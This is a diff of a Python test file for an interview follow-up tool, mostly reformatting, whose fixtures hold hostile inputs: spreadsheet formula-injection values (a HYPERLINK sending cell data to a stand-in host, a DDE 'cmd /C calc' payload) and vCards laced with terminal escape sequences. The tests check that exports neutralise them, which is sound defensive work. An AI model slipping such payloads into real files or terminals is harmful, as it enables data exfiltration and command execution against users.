@@ -20,8 +20,9 @@ ENV = {**os.environ, "FOLLOWUP_NOW": "2026-11-25T09:30"}
 
 
 def followup(command: list[str], db: Path, *args, tz: str = "UTC") -> subprocess.CompletedProcess:
-    return subprocess.run([*command, "--db", str(db), *args], capture_output=True, text=True,
-                          env={**ENV, "TZ": tz}, timeout=60)
+    return subprocess.run(
+        [*command, "--db", str(db), *args], capture_output=True, text=True, env={**ENV, "TZ": tz}, timeout=60
+    )
 
 
 def test_ics_times_are_utc_as_rfc_5545_requires(followup_command, yesterday_db, tmp_path):
@@ -48,10 +49,15 @@ def test_ics_times_are_utc_as_rfc_5545_requires(followup_command, yesterday_db, 
 
 
 HOSTILE_JSON = {
-    "format": "followup", "version": 1,
+    "format": "followup",
+    "version": 1,
     "interviews": [
-        {"uid": "shared-1", "company": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
-         "role": "@SUM(1+1)*cmd|' /C calc'!A0", "day": "2026-11-20"},
+        {
+            "uid": "shared-1",
+            "company": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+            "role": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "day": "2026-11-20",
+        },
         {"uid": "shared-2", "company": "+1 415 555 0142", "role": "-2+3", "day": "2026-11-21"},
     ],
 }
@@ -89,7 +95,8 @@ CARDS = (
 
 
 def test_exported_vcards_pass_the_independent_validator_with_names_and_countries_in_place(
-        followup_command, yesterday_db, tmp_path):
+    followup_command, yesterday_db, tmp_path
+):
     source = tmp_path / "cards.vcf"
     source.write_text(CARDS, encoding="utf-8")
     imported = followup(followup_command, yesterday_db, "import", str(source))
@@ -117,7 +124,6 @@ def test_exported_vcards_pass_the_independent_validator_with_names_and_countries
     assert (address.street, address.city, address.country) == ("12 Wharf Road", "London N1 7GR", "United Kingdom")
 
 
-
 def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
     from followup_tui.store.portable import spreadsheet_cell
 
@@ -127,8 +133,9 @@ def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
     assert spreadsheet_cell("") == ""
 
 
-HOSTILE_CARD = (b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana\nBEGIN:\x1b]0;pwned\x07\x1b[2J\xc2\x9b31m\xe2\x80\xae"
-                + b"evil" * 80 + b"\n")
+HOSTILE_CARD = (
+    b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana\nBEGIN:\x1b]0;pwned\x07\x1b[2J\xc2\x9b31m\xe2\x80\xae" + b"evil" * 80 + b"\n"
+)
 SKIPPED_LINE = b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana Ruiz\n\x1b]52;c;aGVsbG8=\x07\x1bP1$r\x1b\\\n" + b"END:VCARD\n"
 CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
